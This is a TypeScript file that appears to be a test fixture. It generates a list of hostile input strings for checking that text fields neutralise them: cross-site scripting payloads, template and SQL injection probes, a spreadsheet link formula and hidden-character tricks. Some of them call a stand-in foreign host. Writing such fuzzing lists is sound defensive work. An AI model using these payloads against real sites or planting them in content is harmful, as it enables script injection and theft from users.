/** What each text would do if it were read as markup or code: mark the window, open a dialog, ask a foreign host. */
const mark = 'top.planted=1';
const host = '//elsewhere.example';

/** Texts that were somebody's way in elsewhere, short enough for almost every field. */
const texts: readonly string[] = [
  // Scripts and handlers.
  `<script>${mark}</script>`,
  `<script src=${host}/a.js></script>`,
  `</title><script>${mark}</script>`,
  `</textarea><script>${mark}</script>`,
  `--><script>${mark}</script><!--`,
  `]]><script>${mark}</script>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `<img src=x onerror=${mark}>`,
  `<img src=${host}/b.png>`,
  `"><img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=${mark}//`,
  `<img src="x\`\`onerror=${mark}">`,
  `<svg onload=${mark}>`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=alert(1)>#x">`,
  `<math><mtext><img src=x onerror=${mark}></math>`,
  `<body onload=${mark}>`,
  `<details open ontoggle=${mark}>x</details>`,
  `<input autofocus onfocus=${mark}>`,
  `<video><source onerror=${mark}></video>`,
  `<audio src=x onerror=${mark}>`,
  `<marquee onstart=${mark}>x</marquee>`,
  `<div onpointerover=${mark} style=position:fixed;inset:0>`,
  `" onmouseover="${mark}" x="`,
  `' autofocus onfocus='${mark}' x='`,
  // Frames, forms, documents.
  `<iframe src="javascript:${mark}"></iframe>`,
  `<iframe srcdoc="<script>${mark}</script>">`,
  `<iframe src=${host}></iframe>`,
  `<object data="javascript:${mark}"></object>`,
  `<embed src=${host}/c.svg>`,
  `<form action=${host}><button>Save</button></form>`,
  `<base href=${host}/>`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<link rel=stylesheet href=${host}/d.css>`,
  `<template><script>${mark}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
  // Styles.
  `<style>*{display:none}</style>`,
  `<style>@import '${host}/e.css';</style>`,
  `<p style="background:url(${host}/f.png)">x</p>`,
  `x;}body{display:none}`,
  // Addresses.
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}//`,
  `data:text/html,<script>${mark}</script>`,
  `<a href="javascript:${mark}">open</a>`,
  `[open](javascript:${mark})`,
  `![x](${host}/g.png)`,
  // Templates and expressions.
  '{{7*7}}',
  '$\u007b7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  `{{constructor.constructor('${mark}')()}}`,
  `$t(common.save)`,
  '{{count, number}}',
  '%s %d %n %x',
  '__proto__',
  'constructor',
  // Written otherwise, or with characters that hide.
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `&#60;img src=x onerror=${mark}&#62;`,
  `%3Cscript%3E${mark}%3C/script%3E`,
  `\\u003cscript\\u003e${mark}`,
  `\uff1cscript\uff1e${mark}\uff1c/script\uff1e`,
  `abc\u202e<gnp.exe`,
  `\u2066hidden\u2069 shown\u200b`,
  `a\u0001b\u0008c\u001b[31md`,
  `"'\`<>&;\\/`,
  `'; drop table customers; --`,
  `=HYPERLINK("${host}","x")`,
  'W'.repeat(78),
  `Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319 ${'\u0488'.repeat(30)}`,
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66'.repeat(6),
];

/** The same text in another spelling, one way after the other. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(/ (on\w+)=/g, '\u00a0$1 = '),
  (text) => `"'>${text}`,
  (text) => text.replace(/>/g, '/>').replace(/<\//g, '< /'),
];

/**
 * Texts nobody should be able to do anything with.
 * @param count how many; beyond the first ones they are other spellings of these
 */
export function hostileTexts(count: number): string[] {
  const all = [...texts, ...spellings.flatMap((spell) => texts.map(spell))];
  return [...new Set(all)].slice(0, count);
}
